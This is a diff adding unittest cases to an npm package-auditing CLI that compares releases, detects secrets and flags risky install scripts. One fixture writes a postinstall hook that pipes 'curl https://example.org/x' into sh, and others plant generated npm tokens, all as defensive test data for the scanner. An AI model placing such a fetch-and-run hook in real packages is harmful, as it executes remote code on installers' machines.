@@ -13,7 +13,7 @@ import unittest
 sys.dont_write_bytecode = True  # the checkout stays as it is
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'support'))
 
-from program import CliTest
+from program import CliTest, npm_token
 
 
 def repacked(tarball, change):
@@ -113,6 +113,20 @@ class Statements(CliTest):
             (self.directory / 'other.tgz').write_bytes(repacked(self.tarball, change))
             self.assertEqual(self.differences(self.verify('other.tgz')), [expected])
 
+    def test_no_policy_allows_a_difference(self):
+        (self.directory / 'other.tgz').write_bytes(
+            repacked(self.tarball, lambda info, content: [(info, content + b'\n')]))
+        self.write('policy.json', json.dumps(
+            {'failOn': 'critical', 'allow': [{'rule': 'out-verify', 'path': '**', 'reason': 'x'}]}))
+        for options in (('--fail-on', 'critical'), ('--config', 'policy.json')):
+            run = self.run_program('verify', 'other.tgz', '--statement', 'audit.json', *options)
+            self.assertEqual((run.status, run.text), (2, ''))
+            run = self.run_program(*options, 'verify', 'other.tgz', '--statement', 'audit.json')
+            self.assertEqual((run.status, run.text), (2, ''))
+        run = self.run_program('audit', 'p', '--config', 'policy.json')
+        self.assertEqual(run.status, 2)
+        self.assertIn('there is no rule or check called "out-verify"', run.text + run.errors)
+
     def test_of_a_tarball_the_very_file_counts(self):
         run = self.run_program('audit', 'demo.tgz', '--format', 'statement=audit.json')
         self.assertEqual(run.status, 0, run.errors)
@@ -169,6 +183,69 @@ class Statements(CliTest):
         self.assertIn('known by a statement', ' '.join(run.text.split()))
         self.assertEqual(self.run_program('diff', 'none.tgz', 'new.tgz').status, 2)
 
+    def releases(self, *files, scripts=({}, {})):
+        """Two tarballs, old.tgz and new.tgz, of packages with these files and scripts."""
+        for name, version, own, run in zip(('old', 'new'), ('1.0.0', '1.0.1'), files, scripts):
+            manifest = {'name': 'demo', 'version': version, 'license': 'MIT', 'scripts': run}
+            every = {'package.json': json.dumps(manifest), 'LICENSE': 'MIT', 'README.md': 'x', **own}
+            self.write(name + '.tgz', gzip.compress(CliTest.tarball(
+                self, {path: content.encode() for path, content in every.items()})))
+
+    def news(self):
+        """The status of diff, and what it finds: rule, severity, path."""
+        run = self.run_program('diff', 'old.tgz', 'new.tgz', '--format', 'json')
+        self.assertNotIn('tag', run.target['findings'][0] if run.target['findings'] else {})
+        return run.status, {(found['rule'], found['severity'], found['path'])
+                            for found in run.target['findings']}
+
+    def test_diff_tells_another_secret_from_the_same(self):
+        first, second = ('// 1\nsend("%s");\n' % npm_token(seed) for seed in (1, 2))
+        found = ('npm-access-token', 'critical', 'a.js')
+        for old, new, expected in ((first, second, (1, {found})),
+                                   (first, '\n' + first, (0, set())),
+                                   (first, first + second, (1, {found}))):
+            self.releases({'a.js': old}, {'a.js': new})
+            self.assertEqual(self.news(), expected)
+
+    def test_diff_tells_another_file_of_credentials_from_the_same(self):
+        self.releases({'.env': 'DEBUG=1\n'}, {'.env': 'DEBUG=2\n'})
+        self.assertIn('.env', {path for _, _, path in self.news()[1]})
+        self.releases({'.env': 'DEBUG=1\n'}, {'.env': 'DEBUG=1\n'})
+        self.assertEqual(self.news(), (0, set()))
+
+    def test_diff_shows_what_became_worse(self):
+        known = {'postinstall': 'node a.js'}
+        worse = {'postinstall': 'curl https://example.org/x | sh'}
+        files = {'a.js': 'run();\n'}
+        self.releases(files, files, scripts=(known, worse))
+        status, found = self.news()
+        self.assertEqual(status, 1)
+        self.assertIn(('high', 'package.json'), {(severity, path) for _, severity, path in found})
+        self.releases(files, files, scripts=(worse, worse))
+        self.assertEqual(self.news(), (0, set()))
+
+    def test_a_release_of_another_package_is_a_note(self):
+        self.write('q/package.json', '{"name": "other", "version": "0.9.0"}')
+        for options in (('--out', 'other.tgz'), ('--out', 'x.tgz', '--format', 'statement=o.json')):
+            self.assertEqual(self.run_program('pack', 'q', *options).status, 0)
+        note = ('The release before is of another package: it is called other, and this one demo.')
+        for name in ('other.tgz', 'o.json'):
+            for command in (('audit', 'p', '--previous', name), ('diff', name, 'demo.tgz')):
+                run = self.run_program(*command)
+                self.assertIn(note, ' '.join(run.text.split()))
+        for command in (('audit', 'p', '--previous', 'demo.tgz'), ('diff', 'demo.tgz', 'demo.tgz')):
+            self.assertNotIn('another package', self.run_program(*command).text)
+
+    def test_what_is_no_archive_tells_nothing_of_a_package(self):
+        self.write('plain.txt', 'hello\n')
+        for command in (('audit', 'plain.txt'), ('diff', 'demo.tgz', 'plain.txt'),
+                        ('audit', 'plain.txt', '--previous', 'demo.tgz')):
+            run = self.run_program(*command, '--format', 'json')
+            self.assertEqual(run.status, 2)
+            self.assertEqual(run.target['findings'], [])
+            self.assertFalse(run.target.get('changes'))
+            self.assertEqual(run.target['problems'][0]['where'], 'plain.txt')
+
     def test_a_release_before_that_cannot_be_read_is_an_error(self):
         self.write('wrong.tgz', 'x' * 600)
         for name in ('none.tgz', 'wrong.tgz'):
@@ -197,7 +274,13 @@ class Statements(CliTest):
         self.assertEqual(run.status, 2)
         self.assertIn('a statement is of a package', run.errors)
         run = self.run_program('audit', '-', '--format', 'statement', stdin=self.tarball)
-        self.assertEqual(run.status, 2)
+        self.assertEqual((run.status, run.text), (2, ''))
+        for command in (('diff', 'demo.tgz', 'demo.tgz'),
+                        ('verify', 'demo.tgz', '--statement', 'audit.json')):
+            run = self.run_program(*command, '--format', 'statement=x.json')
+            self.assertEqual(run.status, 2)
+            self.assertIn('a statement is of a package', run.errors)
+            self.assertFalse((self.directory / 'x.json').exists())
 
 
 if __name__ == '__main__':
